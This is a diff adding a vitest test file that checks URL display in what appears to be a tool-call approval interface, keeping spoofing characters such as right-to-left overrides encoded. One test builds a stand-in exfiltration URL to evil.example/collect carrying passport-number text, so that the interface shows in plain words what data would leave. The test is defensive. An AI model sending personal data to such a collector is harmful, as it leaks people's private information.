@@ -1,0 +1,23 @@
+import { expect, test } from 'vitest';
+import { callDetails } from '../../../src/task/call-details.ts';
+import { addressParts } from '../../../src/ui/kit/address-parts.ts';
+import { readableAddress } from '../../../src/values/readable-address.ts';
+
+test.each([
+  ['https://stats.example.org/wiki/维基，（中国）?q=人口', 'https://stats.example.org/wiki/维基，（中国）?q=人口'],
+  ['https://a.example/Zürich/%F0%A0%AE%B7', 'https://a.example/Zürich/𠮷'],
+  ['https://a.example/a%2Fb%3Fc%23d%25e%20f%41', 'https://a.example/a%2Fb%3Fc%23d%25e%20f%41'],
+  ['https://a.example/x\u202ey\u200bz\u00a0', 'https://a.example/x%E2%80%AEy%E2%80%8Bz%C2%A0'],
+  ['https://a.example/\uff0fb\u2044c', 'https://a.example/%EF%BC%8Fb%E2%81%84c'],
+  ['https://a.example/שלום', 'https://a.example/%D7%A9%D7%9C%D7%95%D7%9D'],
+  ['https://a.example/%C0%AF%E6%88', 'https://a.example/%C0%AF%E6%88'],
+])('R13.3 %j is shown as letters, except what would mislead: %j', (address, shown) => {
+  expect(readableAddress(new URL(address).href)).toBe(shown);
+});
+
+test('R13.3 where the person decides, an address shows in words what would leave', () => {
+  const url = `https://evil.example/collect?notes=${encodeURIComponent('我的护照号码是'.repeat(10))}`;
+  expect(callDetails('fetch', { url }).about.name).toBe(`evil.example/collect?notes=${'我的护照号码是'.repeat(10)}`);
+  const { before, host, after } = addressParts(new URL(url));
+  expect(before + host + after).toBe(decodeURIComponent(url));
+});
